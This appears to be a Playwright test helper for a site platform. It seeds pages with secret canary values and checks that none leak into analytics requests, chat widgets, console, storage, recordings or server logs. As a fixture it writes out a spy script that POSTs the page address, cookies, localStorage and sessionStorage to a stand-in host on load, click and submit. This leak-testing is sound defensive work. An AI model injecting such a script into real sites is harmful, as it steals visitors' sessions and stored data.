import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { BrowserContext, Page, Request } from '@playwright/test'
import { textOfBrowser } from './browser-text.ts'
import { changeSettings } from './secured-site.ts'
import { settled } from './settled.ts'
import type { Site } from './start-site.ts'

const codeHost = 'tags.example.com'

/** Sends to a host of its own everything that a program of others can read of the page without a form: its address, its title, cookies and storages. */
const spyOn = (host: string): string => `
const send = (what) => fetch('https://${host}/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify([what && typeof what === 'object' ? { ...what } : what,
  location.href, document.referrer, document.title, document.cookie, { ...localStorage }, { ...sessionStorage }, window.name, history.state]) }).catch(() => {});
`
/** What stands in for the programs that count: each sends on what was queued for it, and what comes later. */
const counting = `(() => {
const host = new URL(document.currentScript.src).host;
${spyOn('X').replace("'https://X/collect'", '`https://${host}/collect`')}
if (host === 'mc.yandex.ru') {
  (window.ym.a ?? []).forEach(send);
  window.ym = (...parts) => void send(parts);
} else {
  const { push } = window.dataLayer;
  window.dataLayer.forEach(send);
  window.dataLayer.push = (...parts) => (parts.forEach(send), Reflect.apply(push, window.dataLayer, parts));
}
})()`
/** Custom code that spies at each press, calls what is refused to it, and asks a host that the policy does not name. */
const customCode = `<script>(() => {
${spyOn(codeHost)}
send('load');
addEventListener('click', () => send('click'));
addEventListener('submit', () => send('submit'), true);
new Image().src = 'https://blocked.example/pixel';
document.write('');
})()</script>`

/** Switches on every sink of a site that is not a chat, also on secure documents; consent is asked for. */
export async function switchOnSinks(site: Site): Promise<void> {
  const { values } = JSON.parse(await readFile(join(site.folder, 'settings/site.json'), 'utf8')) as {
    values: { functionalSettings: object }
  }
  await changeSettings(
    site,
    { thirdPartyOnMoneyPages: true },
    {
      functionalSettings: { ...values.functionalSettings, isConsentAsked: true },
      analytics: {
        tagServiceId: 'G-TEST123456',
        searchAnalyticsId: '12345678',
        tagManagerId: 'GTM-TEST12',
        urlParameters: { track_id: 'trackId' },
      },
      customCode: [{ isEnabled: true, position: 'head', code: customCode, hosts: [codeHost] }],
    },
  )
}

/** Calls whose input goes to those who count, or to a chat; what other calls carry is the player's own business with the platform. */
const sinkCalls = /\/api\/(events\.handle|tracking\.hit|FreshChat\.storeChatEvent|storage\.set)$/i
const globalsOfChats = ['fcSettings', '__lc', 'liveTexID', 'LiveTex', 'VerboxSetup', 'supportAPIMethod', 'jivo_config']

/** Text as it is, and as it reads once percent-encoding is undone. */
function plain(text: string): string {
  return `${text}\n${text.replaceAll('+', ' ').replaceAll(/(?:%[0-9a-f]{2})+/gi, (part) => {
    try {
      return decodeURIComponent(part)
    } catch {
      return part
    }
  })}`
}
/** Digits as a word of their own: longer numbers hold any six by chance. */
const holds = (text: string, canary: string): boolean =>
  new RegExp(`(?<![0-9A-Za-z])${canary.replaceAll(/[^0-9A-Za-z]/g, '\\$&')}(?![0-9A-Za-z])`).test(text)

export type Sinks = {
  /** Adds values that may be in no sink from now on. */
  readonly add: (canaries: Readonly<Record<string, string>>) => void
  /** Which canaries are in which sinks, once the page has come to rest. */
  readonly found: (page: Page) => Promise<readonly string[]>
  /** Everything that a sink has got. */
  readonly text: (sink: 'requests' | 'console' | 'recordings') => string
}

/** Follows every sink of a context: requests, console, what the browser stores, recordings of flows, the log of the server. Opens a page that listens to the recordings. */
export async function followSinks(context: BrowserContext, { address, program }: Site): Promise<Sinks> {
  const canaries = new Map<string, string>()
  const requests: Promise<string>[] = []
  const consoles: string[] = []
  const recordings: string[] = []
  await context.route(/^https:\/\/(www\.googletagmanager\.com|mc\.yandex\.ru|tags\.example\.com)\//, (route) =>
    route.fulfill(
      route.request().resourceType() === 'script'
        ? { contentType: 'text/javascript', body: counting }
        : { status: 204, headers: { 'access-control-allow-origin': '*' } },
    ),
  )
  const textOf = async (request: Request): Promise<string> => {
    const { origin, pathname } = new URL(request.url())
    const isOwnCall = origin === address && pathname.startsWith('/api/') && !sinkCalls.test(pathname)
    const { referer = '' } = await request.allHeaders().catch(() => request.headers())
    return `${request.method()} ${request.url()} ${referer} ${isOwnCall ? '' : (request.postData() ?? '')}`
  }
  context.on('request', (request) => void requests.push(textOf(request)))
  context.on('console', (message) => consoles.push(message.text()))
  await context.exposeBinding('playbillRecorded', (_source, text: string) => void recordings.push(text))
  const viewer = await context.newPage()
  await viewer.goto(`${address}/robots.txt`)
  await viewer.evaluate(() => {
    const tell = (window as unknown as { playbillRecorded: (text: string) => void }).playbillRecorded
    const channel = new BroadcastChannel('playbill-inspect')
    const greeted = new Set<string>()
    channel.addEventListener('message', ({ data }) => {
      tell(JSON.stringify(data))
      // A page answers each greeting.
      const { kind, page } = data as { kind: string; page?: { id: string } }
      if (kind !== 'page' || !page || greeted.has(page.id)) return
      greeted.add(page.id)
      channel.postMessage({ format: 1, kind: 'hello' })
    })
    channel.postMessage({ format: 1, kind: 'hello' })
  })
  const log = program.output().length
  let sent = ''
  return {
    add: (more) => Object.entries(more).forEach(([name, value]) => void canaries.set(name, value)),
    text: (sink) => (sink === 'requests' ? sent : (sink === 'console' ? consoles : recordings).join('\n')),
    async found(page) {
      await settled(page)
      sent = (await Promise.all(requests)).join('\n')
      const chats = await page.evaluate(
        (names) => JSON.stringify(names.map((name) => (window as unknown as Record<string, unknown>)[name])),
        globalsOfChats,
      )
      const sinks = {
        requests: sent,
        console: consoles.join('\n'),
        recordings: recordings.join('\n'),
        browser: await textOfBrowser(page, context),
        chats,
        log: program.output().slice(log),
      }
      const texts = Object.entries(sinks).map(([sink, text]) => [sink, plain(text)] as const)
      return texts.flatMap(([sink, text]) =>
        [...canaries].filter(([, value]) => holds(text, value)).map(([name]) => `${name} in ${sink}`),
      )
    },
  }
}
